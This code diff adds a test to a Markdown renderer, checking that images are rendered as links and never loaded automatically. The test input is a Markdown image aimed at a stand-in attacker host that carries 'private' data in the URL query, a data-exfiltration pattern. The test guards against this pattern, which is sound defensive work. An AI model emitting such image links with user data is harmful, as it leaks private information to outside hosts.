@@ -33,3 +33,10 @@ test("code blocks are highlighted and get a copy button", () => {
   expect(html).toContain("hljs");
   expect(html).toContain("Copy code");
 });
+
+test("images are shown as links, never loaded by themselves", () => {
+  const html = renderToStaticMarkup(<Markdown>{"![secret](https://evil.example/x?d=private)"}</Markdown>);
+  expect(html).not.toContain("<img");
+  expect(html).toContain('<a href="https://evil.example/x?d=private"');
+  expect(html).toContain(">secret</a>");
+});
